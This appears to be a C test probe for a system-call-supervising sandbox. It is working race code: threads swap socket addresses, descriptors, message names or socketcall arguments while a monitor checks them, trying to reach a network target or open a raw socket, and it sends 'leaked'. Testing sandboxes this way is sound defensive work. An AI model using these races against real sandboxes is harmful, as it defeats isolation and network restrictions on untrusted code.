/* SPDX-License-Identifier: MIT
 * probe-race WHAT ADDRESS PORT [ROUNDS]: a hostile program that changes what a system call is about
 * while somebody else looks at it. Prints "done", and whatever it should not have got.
 *
 *   address      the address in memory is a local one and the target's by turns
 *   number       the descriptor is a local socket and one of the Internet by turns, for connect
 *   datagram     the same, for sendto
 *   fast-open    the same, for sendmsg and sendmmsg with MSG_FASTOPEN
 *   message      the name in a message of sendmsg is there and gone by turns, on a datagram socket
 *   socketcall   the arguments of socketcall(socket) are a stream's and a raw socket's by turns */
#include "raw.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

enum { NUMBER = 77 };

static struct sockaddr_in target = {.sin_family = AF_INET};
static struct sockaddr_in here = {.sin_family = AF_INET};
static volatile bool over;
static int local, internet;

/* Both in memory that two threads write to. */
static union {
    struct sockaddr_in in;
    volatile uint32_t words[4];
} shared;
static volatile uint32_t *arguments;
static struct msghdr message;

static void *swap_address(void *unused)
{
    while (!over)
        shared.words[1] = shared.words[1] == target.sin_addr.s_addr ? here.sin_addr.s_addr
                                                                    : target.sin_addr.s_addr;
    return unused;
}

static void *swap_number(void *unused)
{
    while (!over) {
        dup2(internet, NUMBER);
        dup2(local, NUMBER);
    }
    return unused;
}

static void *swap_name(void *unused)
{
    while (!over) {
        *(void *volatile *)&message.msg_name = &target;
        *(void *volatile *)&message.msg_name = NULL;
    }
    return unused;
}

static void *swap_arguments(void *unused)
{
    while (!over) {
        arguments[1] = SOCK_RAW;
        arguments[2] = 253;
        arguments[1] = SOCK_STREAM;
        arguments[2] = 0;
    }
    return unused;
}

static pthread_t start(void *(*run)(void *))
{
    pthread_t thread;
    if (pthread_create(&thread, NULL, run, NULL))
        errx(2, "pthread_create");
    return thread;
}

static void race_address(void)
{
    shared.in = target;
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    raw_call(ABI_NATIVE, RAW_CONNECT, fd, (long)&shared.in, sizeof(shared.in), 0, 0, 0);
    close(fd);
}

static void race_number(void)
{
    int old = internet;
    internet = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    close(old);
    raw_call(ABI_NATIVE, RAW_CONNECT, NUMBER, (long)&target, sizeof(target), 0, 0, 0);
}

static void race_datagram(void)
{
    raw_call(ABI_NATIVE, RAW_SENDTO, NUMBER, (long)"leaked", 6, MSG_DONTWAIT, (long)&target,
             sizeof(target));
}

static void race_fast_open(void)
{
    struct mmsghdr messages = {.msg_hdr = message};
    const int flags = MSG_FASTOPEN | MSG_DONTWAIT | MSG_NOSIGNAL;
    int old = internet;
    internet = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    close(old);
    messages.msg_hdr.msg_name = &target;
    raw_call(ABI_NATIVE, RAW_SENDMSG, NUMBER, (long)&messages.msg_hdr, flags, 0, 0, 0);
    syscall(SYS_sendmmsg, NUMBER, &messages, 1, flags);
}

static void race_message(void)
{
    raw_call(ABI_NATIVE, RAW_SENDMSG, internet, (long)&message, MSG_DONTWAIT, 0, 0, 0);
}

static void race_socketcall(void)
{
    enum { SOCKETCALL = 102, SYS_SOCKET_WITHIN = 1 };
    int type = 0;
    socklen_t len = sizeof(type);
    int fd = (int)raw_int80(SOCKETCALL, SYS_SOCKET_WITHIN, (long)arguments, 0, 0, 0, 0);
    if (fd < 0)
        return;
    getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &len);
    if (type == SOCK_RAW) {
        printf("a raw socket\n");
        over = true;
    }
    close(fd);
}

int main(int argc, char **argv)
{
    static const struct {
        const char *name;
        void *(*swap)(void *);
        void (*race)(void);
        int type;
    } races[] = {
        {"address", swap_address, race_address, SOCK_STREAM},
        {"number", swap_number, race_number, SOCK_STREAM},
        {"datagram", swap_number, race_datagram, SOCK_DGRAM},
        {"fast-open", swap_number, race_fast_open, SOCK_STREAM},
        {"message", swap_name, race_message, SOCK_DGRAM},
        {"socketcall", swap_arguments, race_socketcall, SOCK_STREAM},
    };
    if (argc < 4 || inet_pton(AF_INET, argv[2], &target.sin_addr) != 1)
        errx(2, "usage: probe-race WHAT ADDRESS PORT [ROUNDS]");
    target.sin_port = here.sin_port = htons((uint16_t)atoi(argv[3]));
    here.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    arguments = raw_low_memory(4096);
    arguments[0] = AF_INET;
    struct iovec piece = {(char[]){"leaked"}, 6};
    message = (struct msghdr){.msg_namelen = sizeof(target), .msg_iov = &piece, .msg_iovlen = 1};
    int rounds = argc > 4 ? atoi(argv[4]) : 2000;
    for (size_t i = 0; i < sizeof(races) / sizeof(*races); i++) {
        if (strcmp(argv[1], races[i].name) != 0)
            continue;
        local = socket(AF_UNIX, races[i].type, 0);
        internet = socket(AF_INET, races[i].type | SOCK_NONBLOCK, 0);
        pthread_t thread = start(races[i].swap);
        for (int round = 0; round < rounds && !over; round++)
            races[i].race();
        over = true;
        pthread_join(thread, NULL);
        printf("done\n");
        return 0;
    }
    errx(2, "%s: no such race", argv[1]);
}
